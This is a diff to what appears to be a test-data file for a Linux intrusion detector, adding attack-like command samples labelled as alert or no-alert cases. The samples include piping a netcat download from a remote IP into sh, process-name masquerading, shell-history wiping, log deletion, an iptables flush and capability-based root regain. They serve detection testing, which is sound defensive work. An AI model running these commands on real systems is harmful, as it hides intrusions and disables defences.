@@ -34,6 +34,8 @@ FLOOD = ("python3 -c 'import itertools, os\nfor i in itertools.count():\n"
          " d = f\"/opt/d{{i // 50}}\"; i % 50 or os.mkdir(d); open(f\"{{d}}/f{{i}}\", \"w\").close()\n"
          " os.rename(f\"{{d}}/f{{i}}\", f\"{{d}}/g{{i}}\"); i == 4000 and open(\"/tmp/full\", \"w\").close()' "
          "& p=$!; until [ -e /tmp/full ]; do :; done; {}; kill $p; wait")
+LIBRARY = "/usr/lib/x86_64-linux-gnu/libz.so.1"
+LOADS = "python3 -c 'import ctypes; ctypes.CDLL(\"{}\")'"
 # becomes root again without a set-user-id file, by a capability that it was left
 CAPABLE = ("setpriv --reuid=12 --clear-groups --inh-caps=+setuid --ambient-caps=+setuid "
            "python3 -c 'import os; os.setuid(0); os.execv(\"/usr/bin/id\", [\"id\"])'")
@@ -54,6 +56,12 @@ READS_ITSELF = PYTHON.format(
 
 def deed(text, **how):
     return {"text": text, **how}
+
+
+def bomb(name='"sh"', actions="[]"):
+    """Many executions of one shell by one program, the odd one among them."""
+    return PYTHON.format(SERVE + "\nfor i in range(400):\n p = os.posix_spawn(\"/bin/sh\", [" + name +
+                         ", \"-c\", \":\"], dict(), file_actions=" + actions + "); os.waitpid(p, 0)")
 
 
 def policy(**spec):
@@ -160,6 +168,7 @@ ROWS = {
                             "subprocess.run([\"/bin/bash\"], stdin=a)"), labels=OUT),
          # behind pipes: one that goes in a circle, and from a tool that connects
          deed("mkfifo /opt/f; (echo exit > /opt/f) & sh < /opt/f | cat"),
+         deed(bomb(actions="[(os.POSIX_SPAWN_DUP2, a.fileno(), 0)] if i == 300 else []")),
          deed("nc -w 1 198.51.100.99 80 | sh", labels=OUT)],
         [deed(SPAWN.format("")),
          deed(PYTHON.format(GO + "import subprocess; "
@@ -170,6 +179,7 @@ ROWS = {
     "masquerade": (
         [deed("python3 -c 'import os; os.execv(\"/bin/true\", [\"[kworker/0:1]\"])'"),
          deed("bash -c 'exec -a \" [kworker/0:1] \" true'"),
+         deed(bomb(name='"[kworker/0:1]" if i == 300 else "sh"')),
          deed("python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b\"kworker/0:1\", 0, 0, 0)'"),
          deed("mkdir /tmp/.x; cp /bin/true /tmp/.x/sshd; /tmp/.x/sshd"),
          deed("bash -c 'exec -a \"sshd: root\" true'"), deed("ln /usr/bin/gzip /opt/app"),
@@ -286,9 +296,12 @@ ROWS = {
          deed("echo x > /root/.bash_history; : > /root/.bash_history"),
          deed("echo x > /root/.python_history; mv /root/.python_history /tmp/x"),
          deed("echo x > /root/.bash_history; truncate -s 0 /root/.bash_history"),
-         deed("echo x > /root/.bash_history; cd /root; " + RING.format("unlink .bash_history"))],
+         deed("echo x > /root/.bash_history; cd /root; " + RING.format("unlink .bash_history")),
+         deed("echo x > /root/.bash_history; shred /root/.bash_history"), deed("HISTFILE=/dev/null bash -c id"),
+         deed("export HISTFILE=; id")],
         [deed("echo x >> /root/.bash_history; HISTFILE=/root/.bash_history bash -c "
-              "'set -o history; history -a'")]),
+              "'set -o history; history -a'"),
+         deed("id; bash -c 'ls /'; HISTFILE=/dev/null date", env={"HISTFILE": "/dev/null"})]),
     "logs": (
         [deed("echo x > /var/log/wtmp; rm /var/log/wtmp"),
          deed("echo x > /var/log/wtmp; cd /var; rm -r log"),
@@ -300,7 +313,7 @@ ROWS = {
               "rm /var/log/app/a.log.1.gz")]),
     "firewall": (
         [deed("tc qdisc del dev lo root"), deed("ip route add 203.0.113.0/24 dev lo"),
-         deed("nft -f /dev/null"), deed("python3 -c 'import socket; socket.socket(16, 3, 12)'"),
+         deed("nft -f /dev/null"), deed("iptables-legacy -F"), deed("python3 -c 'import socket; socket.socket(16, 3, 12)'"),
          deed(RING.format("socket 16 3 0") + "; " + RING.format("socket 16 3 12"))],
         [deed("ip -f inet addr; ip -j link show; tc qdisc show; nft list ruleset; iptables -L; ip route")]),
     "own-pins": (
@@ -327,8 +340,15 @@ ROWS = {
         [deed("for d in $(seq 1 60); do mkdir /opt/d$d; for f in $(seq 1 50); do : > /opt/d$d/f$f; done; done")],
         [deed("mkdir /opt/many; for f in $(seq 1 400); do : > /opt/many/f$f; done")]),
     "drop-chain": (
-        [deed("cat /bin/true > /opt/late; chmod 755 /opt/late; /opt/late")],
-        [deed("cat /bin/true > /opt/late; chmod 755 /opt/late; cp /etc/hostname /opt/x; chmod 755 /usr/bin/date; date")]),
+        [deed("cat /bin/true > /opt/late; chmod 755 /opt/late; /opt/late"),
+         # on a volume: a program among many files, a script, a library, a program that its loader runs
+         deed("for i in $(seq 70); do cp /bin/true /srv/x$i; done; mv /srv/x70 /srv/y; /srv/y", volume=True),
+         deed("echo true > /srv/x; sh /srv/x", volume=True),
+         deed(f"cp {LIBRARY} /srv/x.so; " + LOADS.format("/srv/x.so"), volume=True),
+         deed("cp /bin/true /srv/x; /lib64/ld-linux-x86-64.so.2 /srv/x", volume=True)],
+        [deed("cat /bin/true > /opt/late; chmod 755 /opt/late; cp /etc/hostname /opt/x; chmod 755 /usr/bin/date; date"),
+         deed("/srv/tool; chmod 755 /srv/tool /srv/script; /srv/tool; sh /srv/script; cp /srv/tool /srv/copy; cat /srv/copy; "
+              "mkdir /srv/d; mv /srv/copy /srv/d; " + LOADS.format("/srv/lib.so"), volume=True)]),
     "dropper": (
         [deed("cp /usr/bin/python3 /opt/bot; python3 -c '" + GO + "import os; "
               "os.execv(\"/opt/bot\", [\"/opt/bot\", \"-c\", \"import socket; s = socket.socket(); "
